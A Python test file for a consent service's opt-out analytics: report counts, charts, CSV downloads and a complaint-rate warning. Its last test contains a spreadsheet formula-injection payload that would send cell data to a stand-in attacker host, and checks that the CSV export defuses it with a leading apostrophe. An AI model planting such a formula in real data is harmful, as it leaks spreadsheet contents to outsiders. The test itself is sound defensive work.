"""Opt-out analytics: the SQL counts over the ledger and the reported sends on SQLite and
PostgreSQL, and the analytics page (charts, tables, CSV downloads, the 0.3% complaint warning)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from assent.domain import Channel, Proof, Purpose, SuppressionReason
from assent.services.accounts import accounts
from assent.services.activity import events as activity
from assent.services.activity import sends as reported
from assent.services.consent import changes as consent
from assent.services.consent.changes import Locator
from assent.services.console import analytics
from assent.services.shared.clock import utcnow
from tests.web import test_console as base

owner = base.owner  # the signed-in console client, a fixture of this module too
EMAIL = [(Channel.EMAIL, Purpose.MARKETING)]


def _activity(engine, account_id: str, sends: int = 40) -> None:
    for i in range(3):
        consent.subscribe(engine, account_id, Locator("email", f"p{i}@example.com"), EMAIL)
    why = Proof(reason="too_many", note="Three a day is too many", message_id="<m1@brand>")
    consent.unsubscribe(engine, account_id, Locator("email", "p0@example.com"), Channel.EMAIL, proof=why)
    consent.suppress(engine, account_id, Locator("email", "p1@example.com"), SuppressionReason.SPAM_COMPLAINT)
    consent.suppress(engine, account_id, Locator("email", "p2@example.com"), SuppressionReason.HARD_BOUNCE)
    for i in range(sends):
        props = {"message_id": "<m1@brand>" if i < 25 else "<m2@brand>"}
        who = activity.EventProfile(email=f"p{i % 3}@example.com")
        activity.create_event(engine, account_id, activity.NewEvent("Received Email", props, who, unique_id=f"s{i}"))


def test_analytics_counts_growth_optouts_suppressions_and_rates(engine):
    account_id = accounts.create_account(engine, "Analytics brand").account.id
    _activity(engine, account_id)
    today = utcnow().date()
    r = analytics.report(engine, account_id, "email", today - timedelta(days=6), today)
    assert len(r.periods) == 7 and r.periods[-1].start == today
    t = r.total
    assert (t.subscribed, t.unsubscribed, t.sent) == (3, 2, 40)  # a complaint is an opt-out too
    assert t.suppressions == {"UNSUBSCRIBE": 1, "SPAM_COMPLAINT": 1, "HARD_BOUNCE": 1}
    assert t.complaint_rate == 1 / 40 and t.bounce_rate == 1 / 40 and r.complaint_warning
    assert (r.reasons[0].reason, r.reasons[0].note, r.reasons[0].count) == ("too_many", "Three a day is too many", 1)
    assert [(m.message_id, m.optouts, m.sent) for m in r.messages] == [("<m1@brand>", 1, 25)]
    weekly = analytics.report(engine, account_id, "email", today - timedelta(days=13), today, "week")
    assert sum(p.subscribed for p in weekly.periods) == 3 and all(p.start.weekday() == 0 for p in weekly.periods)
    sms = analytics.report(engine, account_id, "sms", today, today)
    assert (sms.total.subscribed, sms.total.unsubscribed, sms.total.suppressions) == (0, 0, {})
    earlier = analytics.report(engine, account_id, "email", today - timedelta(days=30), today - timedelta(days=1))
    assert earlier.total.subscribed == 0 and not earlier.complaint_warning


def test_analytics_page_charts_tables_csv_and_the_complaint_warning(server, owner):
    _activity(server.engine, owner.account_id)
    page = owner.get("/console/analytics")
    assert page.status_code == 200
    assert page.text.count('<svg role="img"') >= 4 and 'id="complaint-warning"' in page.text
    assert 'id="kpi-subscribed">3<' in page.text and 'id="kpi-net">+1<' in page.text
    assert "Three a day is too many" in page.text and "&lt;m1@brand&gt;" in page.text
    periods = owner.get("/console/analytics/periods.csv")
    assert periods.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(periods.text)))
    assert len(rows) == 30 and rows[-1]["subscribed"] == "3" and rows[-1]["complaint_rate_pct"] == "2.5"
    messages = list(csv.DictReader(io.StringIO(owner.get("/console/analytics/messages.csv").text)))
    assert messages == [{"message_id": "<m1@brand>", "optouts": "1", "sent": "25", "optout_rate_pct": "4.0"}]
    bad = owner.get("/console/analytics", params={"from": "last week"})
    assert bad.status_code == 400 and "YYYY-MM-DD" in bad.text
    assert owner.get("/console/analytics", params={"channel": "fax"}).status_code == 400
    for every in ("day", "week"):  # the end of the calendar: a 400 naming the day, not a 500
        late = owner.get("/console/analytics", params={"from": "9999-12-30", "to": "9999-12-31", "every": every})
        assert late.status_code == 400 and "9999-12-24" in late.text, late.text
    assert owner.get("/console/analytics/everything.csv").status_code == 404
    quiet = owner.get("/console/analytics", params={"channel": "sms"})
    assert "No sends reported" in quiet.text and "complaint-warning" not in quiet.text


def test_optout_rate_counts_sends_reported_through_message_sends_once(engine):
    """Sends reported with POST /api/message-sends count; one reported both ways counts once."""
    account_id = accounts.create_account(engine, "Sends brand").account.id
    _activity(engine, account_id, sends=6)  # events: <m1@brand> to p0, p1, p2 and again (unique ids differ)
    now = utcnow()
    reports = [reported.SendReport(Locator("email", f"p{i}@example.com"), Channel.EMAIL, Purpose.MARKETING, m, now)
               for i in range(3) for m in ("<m1@brand>", "<m3@brand>")]  # fmt: skip
    reported.record_sends(engine, account_id, reports)
    today = now.date()
    r = analytics.report(engine, account_id, "email", today, today)
    # 6 events of <m1@brand>, all to profiles whose <m1@brand> send is also recorded: they are the
    # same sends. 3 recorded sends of <m1@brand> + 3 of <m3@brand> = 6.
    assert r.total.sent == 6
    assert [(m.message_id, m.optouts, m.sent) for m in r.messages] == [("<m1@brand>", 1, 3)]
    sms = analytics.report(engine, account_id, "sms", today, today)
    assert sms.total.sent == 0


def test_an_unsubscribe_reason_typed_as_a_formula_opens_as_text_in_a_spreadsheet(server, owner):
    # What the public types on the unsubscribe page reaches the brand's spreadsheet through
    # reasons.csv: a text starting like a formula is written with a leading apostrophe.
    typed = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    consent.subscribe(server.engine, owner.account_id, Locator("email", "f@example.com"), EMAIL)
    why = Proof(reason="other", note=typed, message_id="<m1@brand>")
    consent.unsubscribe(server.engine, owner.account_id, Locator("email", "f@example.com"), Channel.EMAIL, proof=why)
    rows = list(csv.DictReader(io.StringIO(owner.get("/console/analytics/reasons.csv").text)))
    assert [(r["reason"], r["text"], r["optouts"]) for r in rows] == [("other", "'" + typed, "1")]
